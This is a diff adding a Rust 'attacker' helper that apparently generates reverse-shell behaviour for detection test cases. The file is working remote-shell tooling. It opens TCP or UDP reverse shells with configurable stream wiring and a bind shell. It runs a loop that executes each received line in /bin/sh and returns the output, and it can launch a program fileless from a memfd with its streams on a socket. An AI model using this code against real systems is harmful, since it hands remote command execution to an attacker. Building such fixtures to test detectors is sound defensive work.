@@ -1,0 +1,171 @@
+//! The attackers of the cases, for what a busybox can't do: datagrams, each stream on something else, a loop that reads
+//! commands, a shell that is no file.
+
+use std::{
+    env,
+    fs::{self, File, OpenOptions},
+    io::{BufRead as _, BufReader, Read as _, Write as _},
+    net::{SocketAddr, TcpListener, TcpStream, UdpSocket},
+    os::{
+        fd::{AsRawFd as _, OwnedFd},
+        unix::{net::UnixStream, process::CommandExt as _},
+    },
+    process::{Command, ExitCode, Stdio},
+};
+
+use anyhow::{Context, Result, bail};
+use rustix::{
+    fs::{MemfdFlags, Mode, memfd_create, mkfifoat},
+    pty::{OpenptFlags, grantpt, ptsname, openpt, unlockpt},
+};
+
+const USAGE: &str = "attacker tcp|udp ADDRESS STREAMS PROGRAM [ARGS...]   STREAMS: a letter each for stdin, stdout, stderr: \
+                     socket, null, pipe, fifo, terminal, Unix socket, regular file, closed
+attacker listen ADDRESS PROGRAM [ARGS...]
+attacker loop ADDRESS
+attacker memfd ADDRESS NAME FILE [ARGS...]";
+
+/// Does what its arguments say.
+pub fn main() -> ExitCode {
+    let arguments: Vec<String> = env::args().skip(1).collect();
+    let arguments: Vec<&str> = arguments.iter().map(String::as_str).collect();
+    match attack(&arguments) {
+        Ok(()) => ExitCode::SUCCESS,
+        Err(error) => {
+            eprintln!("attacker: {error:#}");
+            ExitCode::FAILURE
+        }
+    }
+}
+
+fn attack(arguments: &[&str]) -> Result<()> {
+    let (kind, address, rest) = match arguments {
+        [kind, address, rest @ ..] => (*kind, address.parse::<SocketAddr>()?, rest),
+        _ => bail!("{USAGE}"),
+    };
+    match (kind, rest) {
+        ("tcp", [streams, program, arguments @ ..]) => wire(tcp(address)?, streams, program, arguments),
+        ("udp", [streams, program, arguments @ ..]) => wire(udp(address)?, streams, program, arguments),
+        ("listen", [program, arguments @ ..]) => {
+            let (connection, _) = TcpListener::bind(address)?.accept()?;
+            wire(connection.into(), "sss", program, arguments)
+        }
+        ("loop", []) => command_loop(TcpStream::connect(address)?),
+        ("memfd", [name, file, arguments @ ..]) => memfd(tcp(address)?, name, file, arguments),
+        _ => bail!("{USAGE}"),
+    }
+}
+
+fn tcp(peer: SocketAddr) -> Result<OwnedFd> {
+    Ok(TcpStream::connect(peer).context("connecting")?.into())
+}
+
+/// The first datagram tells the peer who is there.
+fn udp(peer: SocketAddr) -> Result<OwnedFd> {
+    let any = if peer.is_ipv4() { "0.0.0.0:0" } else { "[::]:0" };
+    let socket = UdpSocket::bind(any)?;
+    socket.connect(peer)?;
+    socket.send(b"here\n")?;
+    Ok(socket.into())
+}
+
+/// Runs a program with each of its streams on what a letter says; what is at the other ends stays open until it is over.
+fn wire(socket: OwnedFd, streams: &str, program: &str, arguments: &[&str]) -> Result<()> {
+    let mut command = Command::new(program);
+    command.args(arguments);
+    if streams == "sss" {
+        command.stdin(socket.try_clone()?).stdout(socket.try_clone()?).stderr(socket);
+        return Err(command.exec()).context(program.to_owned());
+    }
+    let mut others = Vec::new();
+    let mut ends = Vec::new();
+    for letter in streams.chars() {
+        let (end, other) = end(letter, &socket)?;
+        ends.push(end);
+        others.extend(other);
+    }
+    let [stdin, stdout, stderr]: [Option<OwnedFd>; 3] =
+        ends.try_into().map_err(|_| anyhow::anyhow!("three streams, not {streams:?}"))?;
+    let closed = [stdin.is_none(), stdout.is_none(), stderr.is_none()];
+    let stdio = |end: Option<OwnedFd>| end.map_or_else(Stdio::null, Stdio::from);
+    command.stdin(stdio(stdin)).stdout(stdio(stdout)).stderr(stdio(stderr));
+    // SAFETY: between fork and exec, only system calls are made.
+    unsafe {
+        command.pre_exec(move || {
+            for (stream, closed) in (0..).zip(closed) {
+                if closed {
+                    rustix::io::close(stream);
+                }
+            }
+            Ok(())
+        });
+    }
+    let mut child = command.spawn().context(program.to_owned())?;
+    drop(command);
+    let status = child.wait()?;
+    if !status.success() {
+        bail!("{program}: {status}");
+    }
+    Ok(())
+}
+
+/// What to give to the program, and what to keep while it runs. Nothing to give: the stream is closed.
+fn end(letter: char, socket: &OwnedFd) -> Result<(Option<OwnedFd>, Option<OwnedFd>)> {
+    Ok(match letter {
+        's' => (Some(socket.try_clone()?), None),
+        'n' => (Some(OpenOptions::new().read(true).write(true).open("/dev/null")?.into()), None),
+        'p' => {
+            let (reader, writer) = std::io::pipe()?;
+            (Some(writer.into()), Some(reader.into()))
+        }
+        'f' => {
+            let path = format!("fifo-{}", std::process::id());
+            mkfifoat(rustix::fs::CWD, &path, Mode::RUSR | Mode::WUSR)?;
+            let fifo: OwnedFd = OpenOptions::new().read(true).write(true).open(path)?.into();
+            (Some(fifo), None)
+        }
+        't' => {
+            let main = openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY)?;
+            grantpt(&main)?;
+            unlockpt(&main)?;
+            let name = ptsname(&main, Vec::new())?;
+            let terminal = OpenOptions::new().read(true).write(true).open(name.to_str()?)?;
+            (Some(terminal.into()), Some(main))
+        }
+        'u' => {
+            let (ours, theirs) = UnixStream::pair()?;
+            (Some(theirs.into()), Some(ours.into()))
+        }
+        'r' => (Some(File::create(format!("file-{}", std::process::id()))?.into()), None),
+        'c' => (None, None),
+        _ => bail!("no stream is called {letter:?}"),
+    })
+}
+
+/// Runs each line that the peer sends, and sends back what it says.
+fn command_loop(connection: TcpStream) -> Result<()> {
+    let answers = connection.try_clone()?;
+    for line in BufReader::new(connection).lines() {
+        let answers = OwnedFd::from(answers.try_clone()?);
+        let mut command = Command::new("/bin/sh");
+        command.args(["-c", &line?]).stdin(Stdio::null());
+        command.stdout(answers.try_clone()?).stderr(answers);
+        command.status()?;
+    }
+    Ok(())
+}
+
+/// Runs a copy of `file` that exists in memory only.
+fn memfd(socket: OwnedFd, name: &str, file: &str, arguments: &[&str]) -> Result<()> {
+    let mut memory = File::from(memfd_create(name, MemfdFlags::CLOEXEC)?);
+    let mut program = Vec::new();
+    File::open(file)?.read_to_end(&mut program)?;
+    memory.write_all(&program)?;
+    let path = fs::canonicalize("/proc/self")?.join(format!("fd/{}", memory.as_raw_fd()));
+    let mut command = Command::new(path);
+    if let [first, rest @ ..] = arguments {
+        command.arg0(first).args(rest);
+    }
+    command.stdin(socket.try_clone()?).stdout(socket.try_clone()?).stderr(socket);
+    Err(command.exec()).context(name.to_owned())
+}
